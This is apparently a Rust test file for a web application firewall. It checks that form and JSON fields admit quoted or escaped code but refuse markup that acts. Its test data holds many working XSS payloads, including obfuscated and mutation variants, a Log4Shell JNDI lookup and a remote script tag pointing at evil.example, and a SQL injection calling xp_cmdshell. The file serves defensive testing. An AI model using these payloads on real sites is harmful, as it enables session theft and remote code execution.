//! Fields of prose and of markup: code that is spoken about or shown is no attack there, markup
//! that acts is one.

use super::attacks::encode;
use portcullis::waf::{Field, FieldKind, RawRequest, Ruleset, Waf};
use serde_json::json;

/// Whether a value is refused in a form or in JSON, in a field of this kind, and by which rules.
fn refused(kind: FieldKind, value: &str) -> Option<String> {
    let waf = Waf::builder(Ruleset::builtin()).field(Field::named("a"), kind);
    let waf = waf.build().unwrap();
    let form = format!("a={}", encode(value));
    let json = json!({ "a": value }).to_string();
    let sent = [
        ("application/x-www-form-urlencoded", &form),
        ("application/json", &json),
    ];
    sent.into_iter().find_map(|(content_type, body)| {
        let request = RawRequest::new("POST", "/").header("content-type", content_type);
        let report = waf.judge(&request.body(body));
        let rules = report.matches().iter().map(|found| found.rule().as_str());
        let rules = rules.collect::<Vec<_>>().join(" ");
        report.is_hostile().then(|| format!("{value}: {rules}"))
    })
}

fn all_admitted(kind: FieldKind, values: &[&str]) {
    let refused = values.iter().filter_map(|value| refused(kind, value));
    let refused: Vec<_> = refused.collect();
    assert!(refused.is_empty(), "{refused:#?}");
}

fn all_refused(kind: FieldKind, values: &[&str]) {
    let admitted = values.iter().filter(|value| refused(kind, value).is_none());
    let admitted: Vec<_> = admitted.collect();
    assert!(admitted.is_empty(), "{admitted:#?}");
}

#[test]
fn markup_may_show_code() {
    all_admitted(FieldKind::RichText, SHOWN);
}

#[test]
fn prose_may_quote_code() {
    all_admitted(FieldKind::FreeText, QUOTED);
}

#[test]
fn markup_that_acts_is_refused_in_markup() {
    all_refused(FieldKind::RichText, ACTING);
}

#[test]
fn markup_that_acts_is_refused_in_prose() {
    all_refused(FieldKind::FreeText, ACTING_IN_PROSE);
    for kind in [FieldKind::FreeText, FieldKind::RichText] {
        all_refused(kind, &["as I said: ${jndi:ldap://evil.example/a}"]);
    }
}

/// What is nothing but an attack is no quotation.
#[test]
fn payloads_alone_are_refused_in_prose() {
    all_refused(
        FieldKind::FreeText,
        &[
            "1;drop table t;exec xp_cmdshell 'dir'--",
            "\" onfocus=alert(1) autofocus x=\"",
            "javascript:alert(1)",
        ],
    );
}

const SHOWN: &[&str] = &[
    "&lt;script&gt;alert(1)&lt;/script&gt; is an XSS",
    "<p>onclick= is an attribute; onload=foo</p>",
    "<pre><code>SELECT name FROM users WHERE id = 1 OR 1=1; -- test</code></pre>",
    "<p>Use <code>document.cookie</code> and <code>alert(1)</code></p>",
    "<p>The tag <code>&lt;img src=x onerror=alert(1)&gt;</code> is the classic payload.</p>",
    "<h2>Event handlers</h2><p>Attributes such as <code>onclick=\"doIt()\"</code> should be avoided; use <code>addEventListener</code>.</p>",
    "<pre><code class=\"language-js\">document.getElementById('x').innerHTML = '&lt;b&gt;hi&lt;/b&gt;';\nwindow.location = '/home';</code></pre>",
    "<pre><code>UNION SELECT username, password FROM accounts--</code></pre><p>never concatenates strings</p>",
    "<pre><code>$ cat /etc/passwd | grep root\nroot:x:0:0:root:/root:/bin/bash</code></pre>",
    "<p>Run <code>sudo apt-get update &amp;&amp; sudo apt-get install nginx</code> first.</p>",
    "<pre>for i in $(seq 10); do curl -s http://localhost:8080/$i; done</pre>",
    "<p>In PHP: <code>&lt;?php echo $_GET['name']; ?&gt;</code></p>",
    "<p>Use <code>javascript:void(0)</code>? Better not.</p>",
    "<blockquote>eval(userInput) is evil</blockquote>",
    "<ul><li><code>localStorage.getItem('token')</code></li><li><code>fetch('/api').then(r =&gt; r.json())</code></li></ul>",
    "<p>&amp;lt;script&amp;gt; is how you write it twice escaped</p>",
    "<p>5 &lt; 6 &amp;&amp; 7 &gt; 3</p>",
    "<table><tr><td>a</td><td>b</td></tr></table><hr><img src=\"/images/a.png\" alt=\"on load = fast\">",
    "<a href=\"https://www.example.com/a?b=c&amp;d=e\" target=\"_blank\" rel=\"noopener\">see</a>",
    "<a href=\"mailto:info@example.com\">write</a> or <a href=\"tel:+4930123456\">call</a>",
    "<p style=\"text-align: center; color: #333\">Centered</p>",
    "<p>Template: <code>{{ user.name }}</code> and <code>${price}</code></p>",
    "<p>In LaTeX: \\frac{a}{b}; in Jinja <code>{% for x in y %}</code></p>",
    "<p>The XML header is <code>&lt;?xml version=\"1.0\"?&gt;</code> and a DTD is <code>&lt;!DOCTYPE html&gt;</code></p>",
    "<p>drop table is DDL; delete from t where 1=1 empties it</p>",
    "<figure class=\"image\"><img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==\" alt=\"\"><figcaption>Logo</figcaption></figure>",
    "<p>Wir haben's geschafft – „endlich“; &quot;ja&quot; &amp; &#39;nein&#39;</p>",
    "<p>She wrote: “don’t use <em>eval()</em>; it’s slow”.</p>",
    "<p>var x = window.open(url); x.document.write('hi')</p>",
    "<p>&lt;svg onload=alert(1)&gt; was filtered, &lt;iframe src=...&gt; too</p>",
    "<p>Try <kbd>Ctrl</kbd>+<kbd>C</kbd>; then <kbd>rm -rf node_modules</kbd></p>",
    "<pre><code>function f(x) {\n  setTimeout(() =&gt; alert(x), 10);\n}</code></pre>",
    "<p><code>' OR '1'='1</code> is the textbook injection</p>",
    "<p>wget -qO- https://example.com/install.sh | bash — never do this</p>",
    "<!-- wp:paragraph --><p>Hello</p><!-- /wp:paragraph -->",
    "<p>ldap: (&amp;(objectClass=user)(cn=*))</p>",
    "<p>path: ../../etc/hosts and C:\\Windows\\System32\\drivers</p>",
    "<p>Log4Shell used a lookup of JNDI in log messages.</p>",
    "<details><summary>SQL</summary><pre>INSERT INTO t (a,b) VALUES (1,'x'); -- ok\nUPDATE t SET a=2 WHERE b='x';</pre></details>",
    "<p>&#60;script&#62; and &#x3c;script&#x3e; are references</p>",
];

const QUOTED: &[&str] = &[
    "title <script> tag: what is it?",
    "Line1\r\nSet-Cookie: a=b",
    "use document.cookie and alert(1)",
    "I typed ' OR 1=1 -- into the login form of the exercise and it worked, is that expected?",
    "The query SELECT * FROM orders WHERE total > 100 ORDER BY created DESC LIMIT 10 takes 12 s.",
    "What is the difference between UNION and UNION ALL SELECT?",
    "onclick= is an attribute, onload= another",
    "To list files: ls -la /var/log; then cat syslog | less",
    "Please run `sudo systemctl restart nginx && journalctl -u nginx -f` and send me the output",
    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nThat is all I get back",
    "From: anna@example.com\nTo: bob@example.com\nSubject: Re: offer\n\nHi Bob,\nsee below.\nCc: carl@example.com",
    "GET /index.html HTTP/1.1\nHost: example.com\n\nis what the client sends",
    "# Steps to reproduce\n\n1. open `/login`\n2. enter `<b>x</b>`\n3. see **error** `TypeError: x is undefined at app.js:12:7`\n\n```js\nconst a = document.querySelector('#x');\na.innerHTML = y;\n```",
    "```sql\nSELECT u.name, count(*) FROM users u JOIN orders o ON o.user_id = u.id GROUP BY u.name HAVING count(*) > 3;\n```\nreturns nothing",
    "```bash\ncurl -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{\"a\":1}'\n```",
    "```python\nimport os\nos.system('ls')\nprint(eval('1+1'))\n```",
    "java.lang.NullPointerException: null\n\tat com.example.App.main(App.java:17)\n\tat java.base/java.lang.Thread.run(Thread.java:840)",
    "2024-05-01 10:00:00,123 ERROR [main] o.h.e.jdbc.spi.SqlExceptionHelper - You have an error in your SQL syntax near 'select' at line 1",
    "127.0.0.1 - - [01/May/2024:10:00:00 +0200] \"GET /a?b=c HTTP/1.1\" 200 12 \"-\" \"curl/8.5.0\"",
    "§ 823 Abs. 1 BGB; vgl. BGH, Urt. v. 12.3.2019 - VI ZR 1/18, NJW 2019, 1234 (1236) = MDR 2019, 55",
    "Pursuant to Art. 6(1)(f) GDPR; see also 15 U.S.C. § 1681b(a)(3)(A) and/or § 1681e(b)",
    "CH3-CH2-OH + O2 -> CH3COOH + H2O; SMILES: CC(=O)Oc1ccccc1C(=O)O; InChI=1S/C9H8O4/c1-6(10)13-8-5-3-2-4-7(8)9(11)12/h2-5H,1H3,(H,11,12)",
    "2-[4-(2-methylpropyl)phenyl]propanoic acid; [Fe(CN)6]4-; Na+/K+-ATPase; ΔG = -RT ln(K)",
    "Liebe Grüße aus Köln! Wie geht's? Wir treffen uns um 8; oder lieber um 9?",
    "C'est l'heure de l'apéro; j'arrive d'ici 5 minutes, d'accord ? \"Oui\" ou 'non' ?",
    "今日は天気がいいですね。明日も晴れるといいな;でも雨かも(予報では50%)。",
    "Привет! Как дела? Мы встречаемся в 8; или лучше в 9? «Да» или «нет»?",
    "مرحبا! كيف حالك؟ نلتقي الساعة 8؛ أو 9؟",
    "Hej! Vi ses kl. 8; eller hellere kl. 9? Det er 'fint' = ok",
    "Ahoj, přijdu v 8; nebo v 9? „Ano“ či ‚ne‘?",
    "O'Neill & Sons, 12 King's Rd; ring 2x, or leave it @ no. 14 (the 'blue' door)",
    "|  a | b |\n|----|---|\n| 1  | 2 |\n\n- [ ] todo\n- [x] done -- finally",
    "A -> B; B => C; C <=> D; a <- b; x := y + 1; !done && ready || waiting",
    "My regex is ^(?:[a-z0-9]+(?:-[a-z0-9]+)*)$ and it fails for `a--b`",
    "In Excel I use =IF(A1>10;\"yes\";\"no\") and =VLOOKUP(B2,Sheet2!$A$1:$C$10,3,FALSE)",
    "Set @var = 1; exec sp_who2; go -- this is from the T-SQL course, lesson 3",
    "DROP TABLE IF EXISTS tmp; CREATE TABLE tmp (id INT PRIMARY KEY, name VARCHAR(20)); is how the script starts",
    "We use `{{ value }}` in Vue, `${value}` in JS, `#{value}` in Ruby and `<%= value %>` in ERB",
    "chmod 600 ~/.ssh/id_rsa; ssh-add ~/.ssh/id_rsa did the trick, thanks",
    "ping 8.8.8.8 -c 4 && traceroute example.com: both time out from the office",
    "docker run --rm -it -v $(pwd):/app -p 8080:80 nginx:latest sh -c 'nginx -t'",
    "git log --oneline | head -5; git rebase -i HEAD~3; git push --force-with-lease",
    "kubectl get pods -n prod | grep -v Running | awk '{print $1}'",
    "The file is in C:\\Users\\anna\\Documents\\report.docx or \\\\server\\share\\x; not in /etc/hosts",
    "powershell -Command \"Get-Process | Sort-Object CPU -Descending\" shows it",
    "alert('hello') pops up twice; why does confirm() return undefined?",
    "Should I use eval() or new Function('return x')? And is setTimeout('x()', 10) bad?",
    "We fetch('/api/items') on load = slow",
    "XPath: //book[price>35]/title or /a/b[1] | /c[@id='x']",
    "(&(objectClass=person)(|(cn=Anna*)(sn=B*))) is my LDAP filter",
    "{\"$where\": \"this.a == this.b\"} is slow in MongoDB, use {$expr: {$eq: ['$a','$b']}}",
];

const ACTING: &[&str] = &[
    "<p>hi</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<p onclick=\"alert(1)\">x</p>",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<b><i onmouseover=alert(1)>x</i></b>",
    "<a href=\" &#106;avascript:alert(1)\">x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<img src=\"x\" onerror=\"&#97;lert(1)\">",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<object data=x></object>",
    "<code><img src=x onerror=alert(1)></code>",
    "<pre><script>alert(1)</script></pre>",
    "<a href=x onclick=alert(1)>y",
    "<p title=\"a>\" onclick=alert(1)>",
    "<form action=//evil.example>",
    "<p>&lt;b&gt;</p><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<img/onerror=alert(1) src=x>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
];

const ACTING_IN_PROSE: &[&str] = &[
    "<script>alert(document.cookie)</script>",
    "hello <img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "hi <iframe src=javascript:alert(1)>",
    "nice post <script src=//evil.example/x.js></script>",
    "' onmouseover=alert(1) x='",
];
